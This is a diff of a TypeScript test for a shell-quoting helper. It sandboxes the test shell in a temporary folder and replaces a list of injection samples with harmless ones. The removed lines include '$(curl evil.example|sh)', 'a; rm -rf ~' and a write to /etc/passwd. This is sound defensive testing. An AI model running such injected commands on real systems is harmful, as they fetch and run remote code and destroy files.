@@ -1,4 +1,7 @@
-import { describe, expect, test } from "bun:test";
+import { afterAll, describe, expect, test } from "bun:test";
+import { mkdtempSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import fc from "fast-check";
 import { parse } from "yaml";
 import { fillCommand, shellQuote } from "../../base/command.ts";
@@ -7,9 +10,14 @@ import { BY_HAND, COMMANDS } from "./commands.ts";
 import { commandOf, fixFor, hclString } from "./fix.ts";
 import { PATCHES } from "./patches.ts";
 
-/** What a real shell makes of a command, word by word. */
+/** Where a shell may write to when the quoting is broken. */
+const folder = mkdtempSync(join(tmpdir(), "devcontrol-shell-"));
+afterAll(() => rmSync(folder, { recursive: true }));
+
+/** What a real shell makes of a command, word by word. It finds no program and stands in a folder of its own. */
 async function words(command: string): Promise<string[]> {
   const child = Bun.spawn(["/bin/sh", "-c", `set -- ${command}; printf '%s\\0' "$@"`], {
+    cwd: folder,
     env: { PATH: "/nonexistent" },
     stdout: "pipe",
     stderr: "pipe",
@@ -20,12 +28,13 @@ async function words(command: string): Promise<string[]> {
 const text = (filled: ReturnType<typeof fillCommand>) =>
   "text" in filled ? filled.text : `refused: ${filled.refused}`;
 
+/** Each does something when the quoting is broken, and no harm: they are run then. */
 const NASTY = [
-  "$(curl evil.example|sh)",
+  "$(printf evil|cat)",
   "`id`",
-  "a; rm -rf ~",
+  "a; exit 3",
   'it\'s "quoted" \\ here',
-  "a && b || c > /etc/passwd",
+  "a && b || c > written",
   "*",
   "~root",
   "#comment",
